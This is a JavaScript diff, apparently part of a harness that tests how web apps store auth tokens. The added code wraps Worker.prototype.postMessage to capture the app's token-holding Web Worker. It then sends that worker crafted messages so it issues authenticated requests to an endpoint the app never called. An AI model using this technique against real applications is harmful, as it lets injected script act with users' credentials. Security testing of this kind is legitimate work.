@@ -11,6 +11,7 @@
   const JWT = /^eyJ[\w-]*\.[\w-]+\.[\w-]*$/;
   const TOKEN_KEYS = ["access_token", "refresh_token", "id_token"];
   const originalFetch = window.fetch.bind(window);
+  const workers = [];  // the app's Web Workers, once a wrapped postMessage has seen them
   const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
   const b64url = (bytes) =>
     btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
@@ -189,6 +190,13 @@
       }
       return response;
     };
+    // A token-holding Web Worker (storage "worker"): whoever wraps postMessage gets the app's worker
+    // at the app's next message, and can post messages of its own to it.
+    const post = Worker.prototype.postMessage;
+    Worker.prototype.postMessage = function (message) {
+      if (!workers.includes(this)) workers.push(this);
+      return post.apply(this, arguments);
+    };
     const button = document.querySelector(app.button);
     if (button && !button.hidden && !button.disabled) {
       const before = document.querySelector(app.shown).textContent;
@@ -221,8 +229,28 @@
     return input + "." + b64url(signature);
   }
 
+  // A message of the script's own to the app's token worker (the package's protocol: JSON with an id).
+  function askWorker(worker, message) {
+    return new Promise((ok) => {
+      const id = 900000 + Math.floor(Math.random() * 90000);
+      const listener = (event) => {
+        let answer;
+        try { answer = JSON.parse(event.data); } catch (e) { return; }
+        if (answer.id === id) { worker.removeEventListener("message", listener); ok(answer); }
+      };
+      worker.addEventListener("message", listener);
+      worker.postMessage(JSON.stringify(Object.assign({ id }, message)));
+      setTimeout(() => ok(null), 10000);
+    });
+  }
+
   async function proxy(app, stolen) {
     const url = new URL("contacts", app.api).href;  // an endpoint the app itself did not call
+    if (!stolen && workers.length) {
+      const answer = await askWorker(workers[0], { type: "fetch", method: "GET", url, headers: {}, body: null });
+      return { url, status: answer && answer.status ? answer.status : JSON.stringify(answer),
+               how: "a message of its own to the app's token worker (reached by wrapping postMessage)" };
+    }
     if (!stolen) return { url, status: "no token to use" };
     const headers = { Authorization: stolen.scheme + " " + stolen.value };
     let how = stolen.scheme + " token from the page";
